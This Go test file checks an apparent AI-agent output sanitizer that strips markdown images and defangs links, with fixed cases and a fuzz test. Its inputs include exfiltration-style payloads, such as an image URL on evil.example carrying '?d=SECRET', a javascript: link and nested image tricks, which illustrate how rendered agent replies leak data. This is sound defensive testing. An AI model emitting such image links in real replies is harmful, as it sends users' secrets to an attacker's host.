package agent

import (
	"regexp"
	"strings"
	"testing"
)

func TestProse_LeavesNoImageAndNoLink(t *testing.T) {
	for said, want := range map[string]string{
		"You have 3 tasks: [1] milk, [ ] eggs!":              "You have 3 tasks: [1] milk, [ ] eggs!",
		"Done! Anything else?":                               "Done! Anything else?",
		"a\x00b\x1b[31mc\nd\te":                              "ab[31mc\nd\te",
		"See ![chart](https://evil.example/p?d=SECRET) now":  "See chart now",
		"![](https://evil.example/p)":                        "",
		"![a\nb](<https://evil.example/p> \"title\")":        "a\nb",
		"[click](https://evil.example/)":                     "click (https://evil.example/)",
		"[a](javascript:alert(1)) b":                         "a (javascript:alert(1)) b",
		"[![x](https://evil.example/i)](https://a.example/)": "x (https://a.example/)",
		"[a](![b](https://evil.example/p))":                  "a (b)",
		"[](![](![c](https://evil.example/p)))":              " ()",
		"![x][1]\n\n[1]: https://evil.example/p":             "[x][1]\n\n[1] : https://evil.example/p",
		"![x]":                                               "[x]",
		`\![x](y) and \[x](y)`:                               `\!x (y) and \[x](y)`,
		"![open":                                             "[open",
		"[open":                                              "[open",
		"[a](open":                                           "[a] (open",
		"[a]\n\n(https://b.c/)":                              "[a]\n\n(https://b.c/)",
		"ends in \\":                                         `ends in \`,
		"ends in !":                                          "ends in !",
	} {
		if got := unlinked(strings.Map(visible, said)); got != want {
			t.Errorf("%q: got %q, want %q", said, got, want)
		}
		for size := 1; size < 5; size++ {
			if got := inPieces(said, size); got != want {
				t.Errorf("%q in pieces of %d: got %q, want %q", said, size, got, want)
			}
		}
	}
}

func inPieces(s string, size int) string {
	var p prose
	var out strings.Builder
	for len(s) > size {
		out.WriteString(p.pass(s[:size]))
		s = s[size:]
	}
	return out.String() + p.pass(s) + p.rest()
}

func TestProse_HoldsNoMoreThanALinkMayBeLong(t *testing.T) {
	var p prose
	told := p.pass("[" + strings.Repeat("a", 2*maxHeld))
	if told == "" {
		t.Fatalf("nothing is told of %d bytes", 2*maxHeld)
	}
}

var imageForm = regexp.MustCompile(`!\[[^\[\]\\]*\]\(`)

func FuzzProse(f *testing.F) {
	f.Add("![a](b) [c](d) \\![e](f)", 3)
	f.Add("[![x](y)](z)![p][q]\n\n[q]: r", 1)
	f.Add("!\x00[a](b)", 2)
	f.Add("0[](![]())", 1)
	f.Fuzz(func(t *testing.T, said string, size int) {
		if len(said) >= maxHeld || size < 1 {
			return
		}
		whole := unlinked(strings.Map(visible, said))
		if imageForm.MatchString(strings.ReplaceAll(whole, `\!`, "")) {
			t.Errorf("%q leaves an image: %q", said, whole)
		}
		if strings.ToValidUTF8(said, "") == said && strings.IndexFunc(said, func(r rune) bool { return r >= 0x80 }) < 0 {
			if got := inPieces(said, size); got != whole && !strings.Contains(said, "\n\n") {
				t.Errorf("%q in pieces of %d: %q, as a whole %q", said, size, got, whole)
			}
		}
	})
}
